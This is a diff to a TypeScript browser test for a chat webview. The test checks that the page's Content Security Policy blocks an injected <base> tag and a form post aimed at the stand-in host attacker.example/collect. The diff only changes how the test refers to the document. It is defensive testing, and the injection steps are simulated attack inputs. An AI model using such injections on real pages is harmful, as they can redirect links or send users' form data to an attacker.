@@ -462,19 +462,20 @@ describe('chat webview', () => {
   it('closes base-uri and form-action under the CSP: an injected <base> or form post is refused by the browser', async () => {
     const p = await open();
     await postToWebview(p, { type: 'state', state: chatState(twoTurns) });
-    const before = await p.evaluate(() => document.baseURI);
+    const before = await p.evaluate(() => (globalThis as any).document.baseURI);
     await p.evaluate(() => {
-      const base = document.createElement('base');
+      const doc = (globalThis as any).document;
+      const base = doc.createElement('base');
       base.href = 'https://attacker.example/';
-      document.head.prepend(base);
-      const form = document.createElement('form');
+      doc.head.prepend(base);
+      const form = doc.createElement('form');
       form.action = 'https://attacker.example/collect';
       form.method = 'post';
-      document.body.append(form);
+      doc.body.append(form);
       form.submit();
     });
     await expect.poll(async () => ((await cspViolations(p)) as Array<{ directive: string }>).map((v) => v.directive).sort(), { timeout: 5000 }).toEqual(['base-uri', 'form-action']);
-    expect(await p.evaluate(() => document.baseURI)).toBe(before);
+    expect(await p.evaluate(() => (globalThis as any).document.baseURI)).toBe(before);
     // The violations were the point of this test: close the page here so the shared check does not count them.
     page = undefined;
     await p.context().close();
